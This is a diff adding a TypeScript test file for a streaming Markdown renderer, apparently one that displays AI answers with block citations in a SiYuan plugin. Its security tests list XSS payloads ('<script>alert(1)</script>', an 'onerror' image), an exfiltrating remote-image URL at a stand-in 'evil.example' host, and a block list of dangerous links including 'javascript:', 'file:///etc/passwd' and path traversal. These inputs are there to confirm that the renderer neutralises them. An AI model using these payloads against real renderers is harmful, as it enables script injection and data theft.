@@ -1,0 +1,158 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { linkTarget } from './links.ts';
+import { type MarkdownBlock, MarkdownStream } from './markdown-stream.ts';
+import type { RenderOptions } from './render.ts';
+
+const ID = '20260412093011-abc1234';
+const OTHER = '20260412093011-zzz9999';
+const options: RenderOptions = {
+  citation: (id) => (id === ID ? 'verified' : 'unverified'),
+  words: { unverified: 'unverified', image: 'Picture:' },
+};
+const stream = (): MarkdownStream => new MarkdownStream(options, (html) => html);
+const shown = (blocks: readonly MarkdownBlock[]): string[] =>
+  blocks.map((block) => (block.kind === 'code' ? `code ${block.language}: ${block.text}` : block.html.trim()));
+const whole = (text: string): string[] => shown(stream().finish(text, options));
+
+const PIECES = [
+  'A plain paragraph with **bold** and `code`.',
+  'Two lines\nof one paragraph.',
+  '# A heading',
+  'A setext heading\n---',
+  '- one\n- two\n  - deep\n- three',
+  '- loose\n\n- list',
+  '1. first\n2. second\n\n3. third',
+  '- [ ] task\n- [x] done',
+  '```js\nconst a = 1;\n\n# not a heading\n```',
+  '~~~\nfence\n~~~',
+  '> quoted\nlazily continued',
+  '| a | b |\n| - | -: |\n| 1 | 2 |',
+  '***',
+  `See ((${ID} "the block")) and ((${OTHER} 'other')).`,
+  '<b>bold</b> and <script>alert(1)</script>',
+  '<div>\nhtml\n</div>',
+  '![x](https://a.example/i.png)',
+  '中文段落，有「引号」。\n第二行。',
+  '#tag not a heading',
+  '2',
+  '    indented code',
+  'a\\\nb',
+];
+
+/** Text in random pieces. */
+const cutText = fc
+  .tuple(
+    fc.array(fc.tuple(fc.constantFrom(...PIECES), fc.constantFrom('\n', '\n\n', '\n\n\n')), { minLength: 1, maxLength: 7 }),
+    fc.array(fc.nat(400), { maxLength: 12 }),
+  )
+  .map(([parts, cuts]) => {
+    const text = parts.map(([piece, gap]) => piece + gap).join('');
+    const places = [...new Set([...cuts.map((cut) => cut % (text.length + 1)), text.length])].sort((one, other) => one - other);
+    return places.map((place) => text.slice(0, place));
+  });
+
+describe('MarkdownStream', () => {
+  it('shows, wherever the text was cut, what the whole text shows', () => {
+    fc.assert(
+      fc.property(cutText, (steps) => {
+        const open = stream();
+        let blocks: readonly MarkdownBlock[] = [];
+        for (const step of steps) blocks = open.update(step);
+        expect(shown(blocks)).toEqual(whole(steps.at(-1) ?? ''));
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  it('shows the same when it arrives character by character', () => {
+    const text = PIECES.join('\n\n');
+    const open = stream();
+    for (let end = 1; end <= text.length; end += 1) open.update(text.slice(0, end));
+    expect(shown(open.blocks)).toEqual(whole(text));
+  });
+
+  it('keeps the objects of finished blocks, also when the answer ends', () => {
+    const open = stream();
+    const early = open.update('# Title\n\nFirst paragraph, which is finished.\n\nSecond para');
+    const late = open.update('# Title\n\nFirst paragraph, which is finished.\n\nSecond paragraph goes on and on.\n\nThird');
+    const end = open.finish('# Title\n\nFirst paragraph, which is finished.\n\nSecond paragraph goes on and on.\n\nThird one.', options);
+    expect(late[0]).toBe(early[0]);
+    expect(late[1]).toBe(early[1]);
+    expect([end[0], end[1]]).toEqual([early[0], early[1]]);
+    expect(end[0]).toBe(early[0]);
+  });
+
+  it('lexes only the open tail: work grows with the text, not with its square', () => {
+    const paragraph = 'A paragraph of a long answer that nobody will lex twice, with **bold** and a `word`.\n\n';
+    let rendered = 0;
+    const counting = new MarkdownStream(options, (html) => {
+      rendered += html.length;
+      return html;
+    });
+    const text = paragraph.repeat(300);
+    for (let end = 0; end <= text.length; end += 40) counting.update(text.slice(0, end));
+    expect(rendered).toBeLessThan(text.length * 12);
+  });
+
+  it('takes CRLF, and begins again when the text is another one', () => {
+    const open = stream();
+    open.update('a\r\n\r\nb\r\n\r\nc and more of this');
+    expect(shown(open.blocks)).toEqual(['<p>a</p>', '<p>b</p>', '<p>c and more of this</p>']);
+    expect(shown(open.update('other'))).toEqual(['<p>other</p>']);
+  });
+
+  it('holds back a reference that is still arriving', () => {
+    for (const end of ['((', '((2026', `((${ID}`, `((${ID} "the bl`, `((${ID} "the block")`]) {
+      expect(shown(stream().update(`See ${end}`)).join('')).not.toContain('((');
+    }
+    expect(shown(stream().update('f((x) + 1'))).toEqual(['<p>f((x) + 1</p>']);
+  });
+});
+
+describe('what an answer may show', () => {
+  it('links a citation only when it was checked', () => {
+    expect(whole(`((${ID} "a <b>block</b>"))`)).toEqual([
+      `<p><a class="mg-cite" data-block-id="${ID}" href="siyuan://blocks/${ID}">a &lt;b&gt;block&lt;/b&gt;</a></p>`,
+    ]);
+    expect(whole(`((${OTHER} "a claim"))`)).toEqual(['<p><span class="mg-cite-unverified">a claim <small>unverified</small></span></p>']);
+    expect(whole(`[x](siyuan://blocks/${OTHER})`)[0]).toContain('mg-cite-unverified');
+  });
+
+  it('never shows a remote picture', () => {
+    expect(whole('![plan](https://evil.example/?d=secret)')).toEqual([
+      '<p><a href="https://evil.example/?d=secret" title="https://evil.example/?d=secret" target="_blank" rel="noopener noreferrer nofollow">Picture: plan</a></p>',
+    ]);
+    expect(whole('![plan](assets/plan.png)')[0]).toContain('<img src="assets/plan.png"');
+    expect(whole('![x](//evil.example/i.png)')[0]).not.toContain('<img');
+  });
+
+  it('shows HTML as text, but for bare tags that people write', () => {
+    expect(whole('H<sub>2</sub>O<br>x')).toEqual(['<p>H<sub>2</sub>O<br>x</p>']);
+    expect(whole('<a data-block-id="x" href="https://a.example">fake</a>')[0]).not.toContain('<a ');
+    expect(whole('<img src=x onerror=alert(1)>')[0]).toContain('&lt;img');
+  });
+
+  it('leads nowhere but to the web, to blocks and to files of the workspace', () => {
+    expect(linkTarget('https://a.example/x').kind).toBe('web');
+    expect(linkTarget(`siyuan://blocks/${ID}?focus=1`)).toEqual({ kind: 'block', id: ID });
+    expect(linkTarget('assets/a b.pdf').kind).toBe('asset');
+    for (const bad of [
+      'javascript:alert(1)',
+      'JaVaScRiPt:alert(1)',
+      ' data:text/html,x',
+      'siyuan://plugins/x?y',
+      '/api/system/exit',
+      'api/system/exit',
+      'assets/../api/system/exit',
+      'assets/%2e%2e/api',
+      '//evil.example',
+      'file:///etc/passwd',
+      'vbscript:x',
+      '#',
+      'https://',
+    ]) {
+      expect([bad, linkTarget(bad).kind]).toEqual([bad, 'none']);
+    }
+  });
+});
